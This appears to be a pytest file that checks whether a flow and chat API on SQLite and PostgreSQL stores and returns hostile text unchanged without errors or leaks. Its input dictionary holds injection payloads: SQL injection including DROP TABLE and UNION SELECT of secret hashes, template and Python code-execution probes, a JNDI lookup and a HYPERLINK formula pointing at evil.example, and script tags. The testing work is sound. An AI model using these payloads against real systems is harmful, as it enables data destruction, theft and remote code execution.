"""Texts that want to be code where they arrive: SQL, templates, expressions, paths; on SQLite and on PostgreSQL."""

import contextlib
import json
from collections.abc import AsyncIterator
from typing import Any

import pytest

from tests.services.api.conftest import House, W, running, serving
from tests.support import postgres
from tests.support.flows import at, end, flow, joiner, message, start
from tests.support.routes import kept

TEXTS = {
    "a quote": "'",
    "a quote that never ends": "x' OR '1'='1",
    "a statement": "'; DROP TABLE apps; --",
    "a union": "1 UNION SELECT secret_hash FROM app_keys --",
    "a wildcard": "%",
    "a comment": "*/ -- /*",
    "a backslash": "\\' OR 1=1 --",
    "a number": "1 OR 1=1",
    "a cast": "1::int; SELECT pg_sleep(10)",
    "a parameter": ":app %(app)s %s ? $1 {0} {app}",
    "a NUL": "a\x00b",
    "a NUL in disguise": "a\ue000b\ue0000",
    "a JSON path": "$.a\"}]->>'x'",
    "a wide quote": "＇ OR １＝１",
    "a template": "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {% print(7*7) %} {{''.__class__.__mro__}} {0.__class__}",
    "a placeholder": "{{AGENT_USER_INPUT}} {{start.AGENT_USER_INPUT}} {{who}}",
    "an expression": "__import__('os').system('touch /tmp/evil')",
    "a lookup": "${jndi:ldap://evil.example/a}",
    "a page": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "a formula": '=HYPERLINK("http://evil.example")',
    "all planes": "\U0010ffff\ufffe\uffff\u202e\u200b",
}
QUERY = ("app", "flow", "chat", "uid", "status", "cursor", "since", "until", "type", "event_id", "version", "from", "to", "limit", "style")


@pytest.fixture(scope="module", params=["sqlite", pytest.param("postgresql", marks=pytest.mark.postgres)])
async def either(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[House]:
    with contextlib.ExitStack() as stack:
        url = ""
        if request.param == "postgresql":
            url = stack.enter_context(postgres.database(*map(request.getfixturevalue, ("postgres_server", "postgres_template"))))
        async with running(tmp_path_factory.mktemp("either"), database=url) as world:
            async for house in serving(world):
                yield house


def echoing() -> dict[str, Any]:
    return flow(
        start(AGENT_USER_INPUT="string"),
        joiner("join", "{{who}}", who=at("start.AGENT_USER_INPUT")),
        message("say", "<{{m}}>", m=at("join.output")),
        end("{{output}}", output=at("join.output")),
        edges="start > join > say > end",
    )


@pytest.mark.parametrize("kind", TEXTS)
async def test_a_text_is_a_text_wherever_it_is_stored_and_found(either: House, kind: str):
    text = TEXTS[kind]
    found = await either.good(f"{W}/protocol/add", {"name": text, "description": text, "app_id": "demo", "status": 0, "data": echoing()})
    assert (await either.http.get(f"/v1/flows/{found['flow_id']}")).json()["name"] == text
    chat = f"{kind} {text}"[:100]
    body = {"uid": text[:40], "chat_id": chat, "ext": {"caller": text}, "history": [{"role": "user", "content": text}]}
    async with either.chat(found["flow_id"], text, debug=True, stream=False, **body) as answer:
        said = json.loads(await answer.aread())
        run = answer.headers["x-event-id"]
    assert said["code"] == 0, said
    position = (await either.http.get(f"/v1/runs/{run}/text")).json()["position"]
    shown = (await either.http.get(f"/v1/runs/{run}/text")).json()
    assert f"<{text}>" in json.dumps(shown, ensure_ascii=False) or json.dumps(f"<{text}>")[1:-1] in json.dumps(shown)
    await either.http.get(f"/v1/runs/{run}", params={"min_position": position})
    listed = (await either.http.get("/v1/runs", params={"chat": chat, "uid": text[:40]})).json()["runs"]
    assert [one["event_id"] for one in listed] == [run]


@pytest.mark.parametrize("kind", ["a quote that never ends", "a union", "a wildcard", "a cast", "a parameter", "a NUL", "all planes"])
async def test_a_text_in_a_path_or_a_query_finds_nothing_of_others_and_breaks_nothing(either: House, kind: str):
    text = TEXTS[kind]
    for door in kept():
        if door.method != "GET" or door.template.endswith("/events"):
            continue
        path = door.path("~").replace("~", "".join(f"%{byte:02x}" for byte in text.encode()))
        answer = await either.http.get(path, params=dict.fromkeys(QUERY, text))
        assert answer.status_code < 500, f"{door}: {answer.text[:300]}"
        assert "secret_hash" not in answer.text.replace(text, ""), door
    assert (await either.http.get("/v1/apps/demo")).status_code == 200
